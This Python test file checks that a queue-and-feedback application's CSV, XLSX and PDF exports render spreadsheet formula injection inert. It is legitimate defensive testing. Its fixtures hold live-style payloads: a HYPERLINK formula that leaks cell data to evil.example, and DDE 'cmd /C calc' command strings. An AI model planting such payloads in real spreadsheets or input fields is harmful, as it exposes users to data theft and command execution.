"""Formula injection (issue 12, item 2): hostile text typed by citizens and staff goes through
the real engine and feedback into every export, and the files read back hold it as inert text.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula; every such text must come out with OWASP's leading apostrophe,
numbers must stay numbers, and the PDF must print the text literally.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from counterdesk.feedback import Feedback
from counterdesk.feedback.opinions import Opinions
from counterdesk.queue import ManualClock, TicketEngine
from counterdesk.queue.office import Office, Text
from counterdesk.reporting.cells import FORMULA_TRIGGERS, inert
from counterdesk.reporting.exports import ExportRequest, export
from counterdesk.reporting.formats import CSV_TABLES
from tests.analytics.test_statistics import DAY, at, play_day
from tests.reporting.test_feedback_exports import token

HOSTILE = {
    "comment": '=HYPERLINK("http://evil.example/?"&A1,"點我")',
    "opinion": "+cmd|' /C calc'!A0",
    "answer": "-2+3+cmd|' /C notepad'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(engine: TicketEngine, clock: ManualClock) -> TicketEngine:
    """The constructed day, with a hostile rating comment, opinion, answer and outside-hours
    note, each typed through the engine's own commands."""
    play_day(engine, clock)
    at(clock, "17:40:00")
    Feedback(engine).ratings.rate(token(engine, "H001"), 1, HOSTILE["comment"])
    book = Opinions(engine)
    opinion = book.submit(HOSTILE["opinion"], channel="web", contact="0912-345-678")
    book.answer(opinion.reference, HOSTILE["answer"], "chen")
    at(clock, "18:30:00")
    engine.issue("precheck", note=HOSTILE["note"])
    at(clock, "09:00:00", DAY + dt.timedelta(days=3))
    return engine


def _live(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def test_inert_prefixes_every_trigger_and_leaves_the_rest() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert inert(f"{trigger}1+1") == f"'{trigger}1+1"
    assert inert("很快 Quick") == "很快 Quick"
    assert inert("a=1") == "a=1"
    assert inert(-3) == -3
    assert inert(-0.5) == -0.5
    assert inert(None) is None


def test_every_csv_table_holds_the_text_inert(hostile: TicketEngine, tmp_path: Path) -> None:
    found: set[str] = set()
    for table in CSV_TABLES:
        path = tmp_path / f"{table}.csv"
        export(hostile, ExportRequest(DAY, DAY, "csv", path, table=table))
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if _live(cell)], table
        found |= {key for key, text in HOSTILE.items() if f"'{text}" in cells}
    # The comment, the opinion and the answer are exported; the issue event keeps the note.
    assert found == set(HOSTILE)


def test_the_xlsx_has_no_formula_and_keeps_numbers(hostile: TicketEngine, tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    export(hostile, ExportRequest(DAY, DAY, "xlsx", path))
    book = load_workbook(path)  # not read-only: the cells' data types are wanted
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.value for cell in cells if _live(cell.value)]
    values = {cell.value for cell in cells}
    assert {f"'{HOSTILE[key]}" for key in ("comment", "opinion", "answer")} <= values
    scores = [row[5].value for row in book["評語 Comments"].iter_rows(min_row=5)]
    assert scores == [1]  # a number, not a text


def test_the_pdf_prints_hostile_names_literally(
    hostile: TicketEngine, sample_office: Office, tmp_path: Path
) -> None:
    name = Text(zh="<b>=1+1 & 機關</b>", en='=HYPERLINK("x") <i>&amp;')
    info = sample_office.office.model_copy(update={"name": name})
    hostile.load_office(sample_office.model_copy(update={"office": info}))
    path = tmp_path / "report.pdf"
    export(hostile, ExportRequest(DAY, DAY, "pdf", path))
    text = "".join(page.extract_text() for page in PdfReader(path).pages)
    assert name.zh in text
    assert name.en in text
